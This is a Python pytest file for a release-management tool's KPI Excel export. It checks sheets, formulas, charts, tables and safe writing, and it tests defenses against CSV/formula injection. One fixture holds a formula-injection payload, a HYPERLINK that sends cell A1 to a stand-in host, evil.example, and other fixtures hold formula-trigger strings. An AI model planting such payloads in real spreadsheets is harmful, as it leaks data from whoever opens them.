"""The KPI workbook, read back with openpyxl as a stakeholder's spreadsheet would see it."""

from __future__ import annotations

import datetime as dt
import io
import os
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils.datetime import to_excel
from openpyxl.worksheet.formula import ArrayFormula
from test_kpis import build_kpi_plan

from relman_desktop.exports import kpi_workbook
from relman_desktop.exports.kpi_workbook import put_text, write_kpi_workbook
from relman_desktop.exports.safe_write import ExportCancelled, write_atomically
from relman_desktop.services import kpis
from relman_desktop.services.base import ServiceError

KPI_SHEETS = [
    "Release success",
    "Deployment frequency",
    "Change failure rate",
    "MTTR",
    "Lead time",
    "On-time delivery",
    "Approval cycle",
]


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def kpi_data(ctx):
    from relman_desktop.models.entities import Change

    build_kpi_plan(ctx.plan)
    with ctx.plan.write() as s:
        s.query(Change).filter_by(key="CHG-1").one().title = EVIL
        s.query(Change).filter_by(key="CHG-2").one().title = "@SUM(1+1)\x07"
        s.query(Change).filter_by(key="CHG-3").one().title = "#N/A"
    return kpis.collect(ctx, by="month")


@pytest.fixture
def workbook_path(kpi_data, tmp_path):
    target = tmp_path / "kpis.xlsx"
    write_kpi_workbook(kpi_data, target)
    return target


@pytest.fixture
def workbook(workbook_path):
    return load_workbook(workbook_path)


def test_sheets_in_reading_order(workbook):
    assert workbook.sheetnames == [
        "Summary",
        *KPI_SHEETS,
        "Deployments",
        "Releases",
        "Changes",
        "Approvals",
        "Data quality",
        "DORA tiers",
    ]
    assert workbook.active.title == "Summary"


def test_summary_values_are_formulas_with_tiers(workbook):
    ws = workbook["Summary"]
    rows = {ws.cell(r, 1).value: r for r in range(2, 13)}
    success = ws.cell(rows["Release success rate"], 2)
    assert success.data_type == "f" and "Rel_Succeeded" in success.value
    assert success.number_format == "0.0%"
    median = ws.cell(rows["Lead time for changes, median"], 2)
    assert median.value.startswith("=IFERROR(MEDIAN(Chg_LeadHours)")
    assert median.number_format == '0.0 "h"'
    assert ws.cell(rows["Lead time for changes, median"], 3).value == "high"
    assert ws.cell(rows["Change failure rate"], 3).value == "low"
    assert ws.cell(rows["Deployment frequency (DORA bucket)"], 2).value == "weekly"
    assert ws.cell(rows["Release success rate"], 4).value == "2026-10-01 – 2026-11-24"
    assert ws.cell(rows["Data-quality gaps"], 2).value == 4
    assert ws.freeze_panes == "B2"


def test_each_kpi_sheet_has_its_series_as_formulas_and_a_chart(workbook):
    for title in KPI_SHEETS:
        ws = workbook[title]
        assert [ws.cell(r, 1).value for r in (2, 3)] == ["2026-10", "2026-11"], title
        assert ws.cell(2, 4).data_type == "f", title
        assert len(ws._charts) == 1, title
        assert ws.freeze_panes == "B2"
    mttr = workbook["MTTR"]
    median = mttr["F2"].value
    assert isinstance(median, ArrayFormula) and "MEDIAN(IF(" in median.text
    assert mttr["F2"].number_format == '0.0 "h"'
    assert workbook["Release success"]["F2"].number_format == "0.0%"
    assert "SUMPRODUCT" in workbook["Deployment frequency"]["D2"].value


def test_charted_series_give_na_for_an_empty_period_so_charts_leave_a_gap(workbook):
    """A period without data must not be charted as 0 % success or 0 h to restore: every
    charted rate or median is #N/A there (NA()), which Excel and LibreOffice leave out."""
    charted = 0
    for title in KPI_SHEETS:
        ws = workbook[title]
        [chart] = ws._charts
        for series in chart.series:
            ref = series.val.numRef.f  # e.g. 'Release success'!$F$1:$F$3
            col = ref.split("!$")[1].split("$")[0]
            text = ws[f"{col}2"].value
            text = text.text if isinstance(text, ArrayFormula) else text
            if "SUMPRODUCT(--(" in text and "IF(" not in text:
                continue  # a count: 0 is the true value of an empty period
            charted += 1
            assert "NA()" in text and '""' not in text, (title, col, text)
    assert charted == 7


def test_raw_sheets_are_excel_tables_with_frozen_headers_and_formats(workbook):
    expected = {
        "Deployments": ("tblDeployments", "A1:N8"),
        "Releases": ("tblReleases", "A1:J6"),
        "Changes": ("tblChanges", "A1:L7"),
        "Approvals": ("tblApprovals", "A1:I5"),
    }
    for sheet, (name, ref) in expected.items():
        ws = workbook[sheet]
        assert list(ws.tables) == [name]
        assert ws.tables[name].ref == ref
        assert ws.freeze_panes == "A2"
        assert ws.column_dimensions["A"].width >= 10
    dep = workbook["Deployments"]
    assert dep["F2"].number_format == "yyyy-mm-dd hh:mm"
    assert dep["N3"].value.startswith("=IF(AND(M3=1")
    assert dep["N3"].number_format == '0.0 "h"'
    assert "Dep_Period" in workbook.defined_names
    assert workbook.defined_names["Dep_Period"].attr_text == "'Deployments'!$L$2:$L$8"


def test_user_text_never_becomes_a_formula(workbook):
    changes = workbook["Changes"]
    titles = {changes.cell(r, 1).value: changes.cell(r, 2) for r in range(2, changes.max_row + 1)}
    evil = titles["CHG-1"]
    assert evil.data_type == "s"
    assert evil.value == EVIL
    assert evil.quotePrefix
    at = titles["CHG-2"]
    assert at.data_type == "s" and at.value == "@SUM(1+1)"  # the bell character is dropped
    na = titles["CHG-3"]
    assert (na.data_type, na.value) == ("s", "#N/A")  # someone's title, not a spreadsheet error


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\r=1", "plain"])
def test_put_text_keeps_every_trigger_as_a_string(text, tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    put_text(wb.active, 1, 1, text)
    wb.save(tmp_path / "t.xlsx")
    cell = load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert cell.data_type == "s"
    assert cell.value == text


def test_empty_plan_gives_a_workbook_without_errors(ctx, tmp_path):
    target = tmp_path / "empty.xlsx"
    write_kpi_workbook(kpis.collect(ctx), target)
    wb = load_workbook(target)
    assert wb["Deployments"].tables["tblDeployments"].ref == "A1:N2"
    assert wb["Summary"]["B2"].data_type == "f"
    assert wb["MTTR"].max_row == 1  # no periods, headers only


def test_missing_folder_gives_a_clear_message_and_leaves_nothing(ctx, tmp_path):
    target = tmp_path / "nowhere" / "kpis.xlsx"
    with pytest.raises(
        ServiceError, match=r"cannot write kpis\.xlsx: the folder .*nowhere does not exist"
    ):
        write_kpi_workbook(kpis.collect(ctx), target)
    assert not target.parent.exists()


def test_locked_target_gives_a_clear_message_and_keeps_the_old_file(tmp_path, monkeypatch):
    target = tmp_path / "kpis.xlsx"  # no plan in this test: the folder holds only the export
    target.write_bytes(b"old")

    def locked(src, dst):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ServiceError, match="open in another program"):
        write_atomically(target, lambda tmp: tmp.write_bytes(b"new"))
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kpis.xlsx"]


def test_cancel_leaves_no_file(ctx, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "kpis.xlsx"
    with pytest.raises(ExportCancelled):
        write_kpi_workbook(kpis.collect(ctx), target, cancelled=lambda: True)
    assert list(folder.iterdir()) == []
    calls = iter([False, True])  # cancelled while the writer ran
    with pytest.raises(ExportCancelled):
        write_atomically(target, lambda tmp: tmp.write_bytes(b"x"), cancelled=lambda: next(calls))
    assert list(folder.iterdir()) == []


def test_cli_export_kpis(ctx, plan_path, tmp_path):
    from relman_desktop.cli import main

    build_kpi_plan(ctx.plan)
    out, err = io.StringIO(), io.StringIO()
    target = tmp_path / "portal.xlsx"
    code = main(
        [
            "--plan",
            str(plan_path),
            "export",
            "kpis",
            str(target),
            "--application",
            "portal",
            "--by",
            "week",
        ],
        out=out,
        err=err,
    )
    assert code == 0, err.getvalue()
    wb = load_workbook(target)
    assert wb["Deployments"].max_row == 5  # the four portal deployments
    assert wb["MTTR"]["A2"].value == "2026-W45"
    code = main(
        ["--plan", str(plan_path), "export", "kpis", str(tmp_path / "no" / "x.xlsx")],
        out=out,
        err=err,
    )
    assert code == 2 and "does not exist" in err.getvalue()


def test_repeated_user_text_in_any_column_stays_text(ctx, tmp_path):
    """The raw sheets clean each distinct text once: every row repeating it is guarded."""
    from relman_desktop.models.entities import Release

    build_kpi_plan(ctx.plan)
    with ctx.plan.write() as s:
        for rel in s.query(Release).filter(Release.application == "billing"):
            rel.application = "=1+1\x07"
    target = tmp_path / "kpis.xlsx"
    write_kpi_workbook(kpis.collect(ctx, by="month"), target)
    ws = load_workbook(target)["Deployments"]
    billing = [ws.cell(r, 2) for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value < "REL-3"]
    assert len(billing) == 3
    for cell in billing:
        assert cell.data_type == "s" and cell.value == "=1+1" and cell.quotePrefix
    assert (
        ws["F2"].number_format == "yyyy-mm-dd hh:mm"
        and ws["F3"].number_format == "yyyy-mm-dd hh:mm"
    )


# The raw sheets' data columns (the formula columns after them are checked above and, computed,
# by LibreOffice below), in the order the sheet has them.
RAW_COLUMNS = {
    "Deployments": (
        "deployments",
        "release_key application environment wave started_at finished_at outcome incidents "
        "hotfix failure_detected_at restored_at period",
    ),
    "Releases": (
        "releases",
        "key title application planned_end deployed_at period production_deployments "
        "failed_deployments",
    ),
    "Changes": (
        "changes",
        "key title category release_key application created_at deployed_at period caused_incident",
    ),
    "Approvals": (
        "approvals",
        "release_key application stage approver decision requested_at decided_at period",
    ),
}


def _read_back(value):
    """A collected value as the workbook gives it back: times as UTC wall-clock, dates as
    midnight, text without the control characters Excel refuses."""
    if isinstance(value, dt.datetime):
        value = value.astimezone(dt.UTC).replace(tzinfo=None)
    elif isinstance(value, dt.date):
        value = dt.datetime.combine(value, dt.time())
    elif isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return type(value), value


def test_raw_sheets_hold_every_collected_row_in_its_place(kpi_data, workbook):
    for sheet, (rows_name, fields) in RAW_COLUMNS.items():
        ws = workbook[sheet]
        rows = getattr(kpi_data, rows_name)
        assert ws.max_row == len(rows) + 1, sheet
        names = fields.split()
        for r, row in enumerate(rows, 2):
            got = [_read_back(ws.cell(r, c).value) for c in range(1, len(names) + 1)]
            assert got == [_read_back(getattr(row, name)) for name in names], (sheet, r)
    deployments = workbook["Deployments"]
    # REL-6's failed deployment has no failure times: empty cells, not zeros or blanks
    assert [deployments.cell(8, c).value for c in (10, 11)] == [None, None]
    assert deployments["E2"].number_format == "yyyy-mm-dd hh:mm"
    assert workbook["Releases"]["D2"].number_format == "yyyy-mm-dd"


utc_offsets = st.builds(
    dt.timezone, st.timedeltas(min_value=dt.timedelta(hours=-14), max_value=dt.timedelta(hours=14))
)


@given(
    st.datetimes(
        min_value=dt.datetime(1900, 3, 2),
        max_value=dt.datetime(9998, 12, 31),
        timezones=st.just(dt.UTC) | utc_offsets,
    )
)
def test_times_are_the_serial_numbers_openpyxl_writes(moment):
    """The raw sheets write times as numbers themselves; they must be openpyxl's to the last
    bit, or the hour formulas would compute other numbers than compute_kpis."""
    assert kpi_workbook._serial(moment) == to_excel(moment.astimezone(dt.UTC).replace(tzinfo=None))
    assert kpi_workbook._date_serial(moment.date()) == to_excel(moment.date())


def test_cells_are_in_row_order_as_excel_requires(workbook_path):
    """Excel calls a sheet whose cells are out of order corrupt (openpyxl reads it anyway);
    the raw sheets put their cells into the sheet themselves."""
    from xml.etree.ElementTree import fromstring

    from openpyxl.utils.cell import column_index_from_string, coordinate_from_string

    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with ZipFile(workbook_path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 14
        for name in sheets:
            rows = fromstring(archive.read(name)).findall("m:sheetData/m:row", ns)
            numbers = [int(row.get("r")) for row in rows]
            assert numbers == sorted(set(numbers)), name
            for row in rows:
                places = [coordinate_from_string(c.get("r")) for c in row.findall("m:c", ns)]
                assert {r for _, r in places} <= {int(row.get("r"))}, (name, row.get("r"))
                columns = [column_index_from_string(letter) for letter, _ in places]
                assert columns == sorted(set(columns)), (name, row.get("r"))


def test_workbook_is_a_deflated_zip(workbook_path):
    with ZipFile(workbook_path) as archive:
        assert archive.testzip() is None
        assert {info.compress_type for info in archive.infolist()} == {ZIP_DEFLATED}
        names = archive.namelist()
    assert "xl/workbook.xml" in names and "xl/tables/table1.xml" in names
    assert sum(name.startswith("xl/charts/chart") for name in names) == len(KPI_SHEETS)


def test_line_charts_draw_straight_segments_and_sheets_print_one_page_wide(workbook_path, workbook):
    """A smoothed curve overshoots between points (a recovery time below zero); printed or made a
    PDF, a KPI sheet's table and chart come out side by side, and long sheets repeat their header."""
    import re

    with ZipFile(workbook_path) as archive:
        charts = [
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/charts/chart")
        ]
    lines = [c for c in charts if re.search(r"<(c:)?lineChart>", c)]
    assert lines, "no line chart"
    for xml in lines:  # the chart namespace may be the default one or prefixed c:
        series = re.findall(r"<(?:c:)?ser>.*?</(?:c:)?ser>", xml, re.S)
        assert series and all(re.search(r'<(?:c:)?smooth val="0"\s*/>', one) for one in series)
    for ws in workbook.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0), ws.title
        assert ws.print_title_rows == "$1:$1", ws.title


def test_a_line_chart_spans_the_measured_periods_so_no_client_draws_a_false_zero(ctx, kpi_data):
    """LibreOffice draws a #N/A as 0 (a fall to 0 % success that did not happen): a line chart
    runs from the first to the last period with data; the table still lists every period."""
    measured = kpis.compute_from(kpi_data).series
    wider = kpis.collect(  # an empty month before the data and two after it
        ctx,
        start=measured[0].start - dt.timedelta(days=20),
        end=measured[-1].end + dt.timedelta(days=45),
    )
    series = kpis.compute_from(wider).series
    rows = [r for r, p in enumerate(series, 2) if p.release_success_rate is not None]
    assert (rows[0], rows[-1], len(series)) == (3, len(measured) + 2, len(measured) + 3)
    workbook = kpi_workbook.build_kpi_workbook(wider)
    ws = workbook["Release success"]
    [chart] = ws._charts
    [line] = chart.series
    assert line.val.numRef.f == f"'Release success'!$F${rows[0]}:$F${rows[-1]}"
    cats = line.cat.strRef.f if line.cat.strRef is not None else line.cat.numRef.f
    assert cats == f"'Release success'!$A${rows[0]}:$A${rows[-1]}"
    assert line.tx.strRef.f == "'Release success'!$F$1"  # the legend still says "Success rate"
    assert ws.max_row == len(series) + 1  # every period is still in the table
    [bars] = workbook["Deployment frequency"]._charts[0].series
    assert bars.val.numRef.f.endswith(f"$D${len(series) + 1}")  # a count of 0 is a true 0


def test_from_and_to_are_the_days_counted_so_a_cut_period_is_not_read_as_a_whole_one(ctx):
    """A range ending two days into a month: that month's row says it counts two days, not the
    whole month a stakeholder would otherwise compare with the full ones above it."""
    build_kpi_plan(ctx.plan)
    data = kpis.collect(ctx, by="month", start=dt.date(2026, 10, 5), end=dt.date(2026, 11, 2))
    buf = io.BytesIO()
    kpi_workbook.build_kpi_workbook(data).save(buf)
    ws = load_workbook(buf)["Deployment frequency"]
    rows = [[ws.cell(r, c).value for c in (1, 2, 3)] for r in (2, 3)]
    assert rows == [
        ["2026-10", dt.datetime(2026, 10, 5), dt.datetime(2026, 10, 31)],
        ["2026-11", dt.datetime(2026, 11, 1), dt.datetime(2026, 11, 2)],
    ]


def test_data_quality_sheet_says_no_gaps_were_found_and_what_was_checked(ctx, tmp_path):
    target = tmp_path / "clean.xlsx"
    write_kpi_workbook(kpis.collect(ctx), target)
    sheet = load_workbook(target)["Data quality"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Kind", "Record", "KPI", "Issue"]
    assert rows[1][3] == "No data-quality gaps found. Checked:" and sheet["D2"].font.bold
    checked = {(kind, kpi) for kind, _, kpi, _ in rows[2:]}
    assert checked == {
        ("deployment", "deployment_frequency"),
        ("deployment", "mttr"),
        ("release", "on_time_delivery"),
        ("change", "lead_time"),
        ("approval", "approval_cycle_time"),
    }
    assert all(issue.endswith(": yes") for *_, issue in rows[2:])


def test_data_quality_sheet_lists_the_gaps_and_no_all_clear(workbook):
    gaps = [row[3].value for row in workbook["Data quality"].iter_rows(min_row=2)]
    assert "deployed release has no planned end: left out of on-time delivery" in gaps
    assert not any("No data-quality gaps" in g for g in gaps)
